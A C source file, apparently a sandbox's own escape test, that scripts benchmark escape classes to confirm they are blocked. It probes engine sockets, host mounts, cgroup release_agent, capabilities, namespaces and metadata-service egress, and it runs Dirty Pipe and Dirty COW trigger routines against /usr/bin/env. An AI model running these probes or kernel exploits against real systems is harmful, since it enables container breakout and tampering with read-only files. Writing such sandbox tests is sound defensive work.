/* classes.c - of the program escape, number 73: the classes of the public benchmarks of sandbox
 * escapes (SandboxEscapeBench: orchestration, runtime, kernel; sandboxbench: escape, exfiltration,
 * discovery), each as a scripted attempt, and a hunt for the flags that the test has left on the
 * host: in files, in its environment, behind sockets. */
#include "escape.h"
#include <arpa/inet.h>
#include <dirent.h>
#include <linux/fs.h>
#include <net/if.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>

#define FLAG "paddock-flag" /* test_escape.c leaves them */

/* ---- runtime: sockets of engines, mounts of the host ---- */

static const char *engine_sockets(void)
{
        static const char *const paths[] = {"/var/run/docker.sock",
                                            "/run/docker.sock",
                                            "/run/containerd/containerd.sock",
                                            "/run/crio/crio.sock",
                                            "/run/podman/podman.sock",
                                            "/run/paddock/paddock.sock",
                                            "/run/systemd/private",
                                            "/run/dbus/system_bus_socket",
                                            "/var/run/secrets/kubernetes.io/serviceaccount/token"};
        char text[16384];
        for (size_t i = 0; i < COUNT(paths); i++)
                if (access(paths[i], F_OK) == 0)
                        return OPEN("%s is there", paths[i]);
        if (read_file("/proc/net/unix", text, sizeof text) > 0 && strstr(text, " /"))
                return OPEN("a socket with a path is named in /proc/net/unix");
        return getenv("KUBERNETES_SERVICE_HOST") ? OPEN("an orchestrator's environment") : NULL;
}

/* Every mount that can be written is memory, a terminal, an overlay, or was asked for. */
static const char *mount_is_ours(char *line)
{
        char *where = line, *rest = strstr(line, " - ");
        for (int i = 0; where && i < 4; i++)
                where = strchr(where + 1, ' ');
        if (!rest || !where)
                return OPEN("mountinfo: %s", line);
        char *options = strchr(where + 1, ' ');
        if (!options || strncmp(options + 1, "rw", 2) != 0)
                return NULL;
        static const char *const kinds[] = {"tmpfs ", "devpts ", "overlay ", "ramfs "};
        for (size_t i = 0; i < COUNT(kinds); i++)
                if (strncmp(rest + 3, kinds[i], strlen(kinds[i])) == 0)
                        return NULL;
        if (strstr(line, " /null /proc/"))
                return NULL; /* what hides a file of the kernel */
        static const char *const nodes[] = {"null", "zero", "full", "random", "urandom", "tty"};
        for (size_t i = 0; i < COUNT(nodes); i++) {
                char one[64]; /* "ROOT WHERE": the node itself on itself */
                snprintf(one, sizeof one, "/%s /dev/%s ", nodes[i], nodes[i]);
                if (strstr(line, one))
                        return NULL;
        }
        bool place = strncmp(where, " /tmp ", 6) == 0 || strncmp(where, " /run ", 6) == 0 ||
                     strncmp(where, " /dev/shm ", 10) == 0 || strncmp(where, " / ", 3) == 0;
        /* An upper layer on disk has its views of one directory of the sandbox's own. */
        return place && (profile == BUILD || profile == IMAGE) ? NULL : OPEN("writable: %s", line);
}

static const char *mounts_of_the_host(void)
{
        static char text[1 << 16];
        if (read_file("/proc/self/mountinfo", text, sizeof text) <= 0)
                return OPEN("mountinfo cannot be read");
        const char *r = NULL;
        char *rest = text;
        for (char *line; !r && (line = strsep(&rest, "\n"));)
                if (*line)
                        r = mount_is_ours(line);
        static const char *const dirs[] = {"/host", "/rootfs", "/hostfs", "/mnt/host",
                                           "/proc/1/root/root"};
        for (size_t i = 0; i < COUNT(dirs) && !r; i++)
                if (access(dirs[i], F_OK) == 0)
                        r = OPEN("%s is there", dirs[i]);
        return r;
}

static const char *control_groups(void)
{
        static const char *const paths[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/release_agent",
                                            "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cgroup.procs"};
        char text[4096];
        for (size_t i = 0; i < COUNT(paths); i++)
                if (opens(paths[i], O_RDONLY))
                        return OPEN("%s can be opened", paths[i]);
        mkdir("/tmp/cg", 0755);
        if (mount("x", "/tmp/cg", "cgroup", 0, "memory") == 0 ||
            mount("x", "/tmp/cg", "cgroup2", 0, NULL) == 0)
                return OPEN("control groups can be mounted");
        if (read_file("/proc/self/cgroup", text, sizeof text) < 0)
                return NULL;
        char *rest = text;
        for (char *line; (line = strsep(&rest, "\n"));) {
                char *path = strrchr(line, ':');
                if (path && strcmp(path, ":/") != 0)
                        return OPEN("the group of the host is named: %s", line);
        }
        return NULL;
}

static const char *descriptors_of_others(void)
{
        DIR *d = opendir("/proc");
        const char *r = NULL;
        for (struct dirent *e; d && !r && (e = readdir(d));) {
                char path[300];
                long pid = strtol(e->d_name, NULL, 10);
                if (pid <= 0 || pid == getpid())
                        continue;
                snprintf(path, sizeof path, "/proc/%ld/fd", pid);
                if (opens(path, O_RDONLY))
                        r = OPEN("%s can be listed", path);
                snprintf(path, sizeof path, "/proc/%ld/environ", pid);
                if (opens(path, O_RDONLY) && read_file(path, why, sizeof why) > 0)
                        r = OPEN("%s can be read", path);
        }
        if (d)
                closedir(d);
        return r;
}

/* ---- capabilities, one deed each ---- */

static const char *deeds_of_root(void)
{
        struct rlimit big = {RLIM_INFINITY, RLIM_INFINITY}, now;
        struct ifreq lo = {.ifr_name = "lo"};
        int s = socket(AF_INET, SOCK_STREAM, 0), immutable = FS_IMMUTABLE_FL;
        int fd = open("/work/deed", O_CREAT | O_RDWR, 0600);
        if (ioctl(s, SIOCSIFFLAGS, &lo) == 0)
                return OPEN("an interface can be set (NET_ADMIN)");
        if (setsockopt(s, SOL_SOCKET, SO_RCVBUFFORCE, &(int){1 << 20}, 4) == 0)
                return OPEN("SO_RCVBUFFORCE (NET_ADMIN)");
        if (setpriority(PRIO_PROCESS, 0, -20) == 0)
                return OPEN("a better priority (SYS_NICE)");
        if (TRY(SYS_sched_setscheduler, 0, 1, &(int){1}) == 0)
                return OPEN("real time (SYS_NICE)");
        if (getrlimit(RLIMIT_CORE, &now) == 0 && now.rlim_max != RLIM_INFINITY &&
            setrlimit(RLIMIT_CORE, &big) == 0)
                return OPEN("a higher limit (SYS_RESOURCE)");
        if (ioctl(fd, FS_IOC_SETFLAGS, &immutable) == 0)
                return OPEN("an immutable file (LINUX_IMMUTABLE)");
        if (TRY(SYS_clock_settime, 0, &(long[2]){0, 0}) == 0)
                return OPEN("the clock (SYS_TIME)");
        if (TRY(SYS_syslog, 3, why, 10) >= 0)
                return OPEN("the kernel's log (SYSLOG)");
        if (TRY(SYS_ioprio_set, 1, 0, 1 << 13) == 0)
                return OPEN("real-time disk access (SYS_ADMIN)");
        close(s);
        close(fd);
        return NULL;
}

static const char *namespace_tricks(void)
{
        static const char *const names[] = {"user", "mnt", "net", "pid", "ipc", "uts", "cgroup"};
        for (size_t i = 0; i < COUNT(names); i++) {
                char path[64];
                snprintf(path, sizeof path, "/proc/1/ns/%s", names[i]);
                if (opens(path, O_RDONLY))
                        return OPEN("%s can be opened", path);
                snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
                int fd = open(path, O_RDONLY);
                if (fd >= 0 && ioctl(fd, 0xb701) >= 0) /* NS_GET_USERNS, of the user's: a parent */
                        if (strcmp(names[i], "user") == 0)
                                return OPEN("the parent of the user namespace");
                if (fd >= 0 && (ioctl(fd, 0xb702) >= 0)) /* NS_GET_PARENT */
                        return OPEN("the parent of %s", names[i]);
                if (fd >= 0 && setns(fd, 0) == 0)
                        return OPEN("setns %s", names[i]);
                close(fd);
        }
        return opens("/proc/self/uid_map", O_WRONLY) ? OPEN("uid_map") : NULL;
}

/* ---- kernel: the deeds of known bugs, which a fixed kernel refuses ---- */

/* CVE-2022-0847: a page of a read-only file spliced into a pipe, then written. */
static const char *dirty_pipe(void)
{
        char before[8], after[8], junk[4096] = {0};
        int fd = open("/usr/bin/env", O_RDONLY), p[2];
        if (fd < 0 || pread(fd, before, 8, 4) != 8 || pipe2(p, O_NONBLOCK) < 0)
                return NULL;                       /* an image without it */
        while (write(p[1], junk, sizeof junk) > 0) /* every slot has been used once */
                ;
        while (read(p[0], junk, sizeof junk) > 0)
                ;
        loff_t at = 3;
        if (splice(fd, &at, p[1], NULL, 1, 0) != 1 || write(p[1], "paddock", 7) != 7)
                return OPEN("the attempt does not work any more: %s", strerror(errno));
        bool same = pread(fd, after, 8, 4) == 8 && memcmp(before, after, 8) == 0;
        close(fd);
        close(p[0]);
        close(p[1]);
        return same ? NULL : OPEN("a read-only file was changed through a pipe");
}

/* CVE-2016-5195: a private mapping that is written and thrown away at once. */
static const char *dirty_cow(void)
{
        char now[8], before[8];
        int fd = open("/usr/bin/env", O_RDONLY);
        if (fd < 0 || pread(fd, before, 8, 0) != 8)
                return NULL;
        char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        int mem = open("/proc/self/mem", O_RDWR);
        pid_t pid = mem >= 0 && map != MAP_FAILED ? fork() : -1;
        if (pid == 0) {
                for (int i = 0; i < 20000; i++)
                        madvise(map, 4096, MADV_DONTNEED);
                _exit(0);
        }
        for (int i = 0; pid > 0 && i < 20000; i++)
                if (pwrite(mem, "paddock", 7, (off_t)(uintptr_t)map) < 0)
                        break;
        if (pid > 0)
                waitpid(pid, NULL, 0);
        bool same = pread(fd, now, 8, 0) == 8 && memcmp(before, now, 8) == 0;
        close(mem);
        close(fd);
        return same ? NULL : OPEN("a read-only file was changed through a mapping");
}

/* The parts of the kernel in which most of the known escapes began. */
static const char *kernel_surface(void)
{
        static const struct {
                int family, type, protocol;
                const char *name;
        } s[] = {{AF_NETLINK, SOCK_RAW, 12, "nf_tables"},
                 {AF_NETLINK, SOCK_RAW, 0, "rtnetlink"},
                 {AF_NETLINK, SOCK_RAW, 6, "xfrm"},
                 {AF_PACKET, SOCK_RAW, 0, "packet"},
                 {38 /* ALG */, SOCK_SEQPACKET, 0, "alg"},
                 {40, SOCK_STREAM, 0, "vsock"},
                 {AF_INET, SOCK_RAW, IPPROTO_RAW, "raw"},
                 {AF_INET, SOCK_STREAM, 262, "mptcp"},
                 {AF_INET, SOCK_DCCP, IPPROTO_DCCP, "dccp"},
                 {30, SOCK_STREAM, 0, "tipc"},
                 {44, SOCK_RAW, 0, "xdp"},
                 {15, SOCK_RAW, 2, "af_key"}};
        for (size_t i = 0; i < COUNT(s); i++) {
                int fd = socket(s[i].family, s[i].type, s[i].protocol);
                if (fd >= 0 && strcmp(s[i].name, "mptcp") != 0)
                        return OPEN("a socket of %s", s[i].name);
                close(fd);
        }
        static const char *const fs[] = {"overlay", "fuse",  "bpf",         "debugfs", "tracefs",
                                         "proc",    "sysfs", "binfmt_misc", "nfs",     "ext4"};
        for (size_t i = 0; i < COUNT(fs); i++)
                if (mount("x", "/tmp", fs[i], 0, NULL) == 0)
                        return OPEN("%s can be mounted", fs[i]);
        return NULL;
}

/* ---- exfiltration and discovery ---- */

static const char *ways_of_data_out(void)
{
        struct sockaddr_in dns = {.sin_family = AF_INET, .sin_port = htons(53)};
        static const char *const servers[] = {"8.8.8.8", "1.1.1.1", "169.254.169.254"};
        int s = socket(AF_INET, SOCK_DGRAM, 0), icmp = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
        for (size_t i = 0; i < COUNT(servers); i++) {
                inet_pton(AF_INET, servers[i], &dns.sin_addr);
                if (sendto(s, "x", 1, 0, (struct sockaddr *)&dns, sizeof dns) == 1)
                        return OPEN("a datagram to %s goes out", servers[i]);
                if (sendto(icmp, "\10\0\0\0\0\0\0\0", 8, 0, (struct sockaddr *)&dns, sizeof dns) >
                    0)
                        return OPEN("an echo to %s goes out", servers[i]);
        }
        close(s);
        close(icmp);
        struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
        inet_pton(AF_INET6, "fd00:ec2::254", &six.sin6_addr);
        s = socket(AF_INET6, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&six, sizeof six) == 0)
                return OPEN("the metadata service answers");
        close(s);
        struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "\0" FLAG};
        s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)
                return OPEN("an abstract socket of the host answers");
        close(s);
        return NULL;
}

static const char *flag_in(const char *dir, int depth)
{
        DIR *d = opendir(dir);
        const char *r = NULL;
        for (struct dirent *e; d && !r && (e = readdir(d));) {
                char path[600];
                if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
                        continue;
                snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
                if (strncmp(e->d_name, FLAG, strlen(FLAG)) == 0)
                        r = OPEN("a flag: %s", path);
                else if (depth > 0 && e->d_type == DT_DIR)
                        r = flag_in(path, depth - 1);
        }
        if (d)
                closedir(d);
        return r;
}

static const char *flags(void)
{
        static const char *const tops[] = {"/tmp", "/root", "/home", "/var", "/run", "/work",
                                           "/opt", "/srv",  "/mnt",  "/etc", "/dev", "/.paddock"};
        struct utsname u;
        for (size_t i = 0; i < COUNT(tops); i++) {
                const char *r = flag_in(tops[i], 3);
                if (r)
                        return r;
        }
        if (getenv("PADDOCK_FLAG"))
                return OPEN("a flag in the environment");
        if (uname(&u) < 0 || strcmp(u.nodename, "sandbox") != 0)
                return OPEN("the host's name is %s", u.nodename);
        return opens("/etc/machine-id", O_RDONLY) && profile == RUN ? OPEN("the host's machine-id")
                                                                    : NULL;
}

const struct escape class_escapes[] = {
        {73, "runtime: no socket of an engine or an orchestrator", engine_sockets},
        {73, "runtime: no mount of the host that can be written", mounts_of_the_host},
        {73, "runtime: control groups, release_agent", control_groups},
        {73, "runtime: no descriptors, no environment of others", descriptors_of_others},
        {73, "runtime: capabilities, one deed each", deeds_of_root},
        {73, "runtime: namespaces of others", namespace_tricks},
        {73, "kernel: dirty pipe", dirty_pipe},
        {73, "kernel: dirty cow", dirty_cow},
        {73, "kernel: where escapes begin", kernel_surface},
        {73, "exfiltration: no way out for data", ways_of_data_out},
        {73, "discovery: no flag of the host", flags},
        {0, NULL, NULL},
};
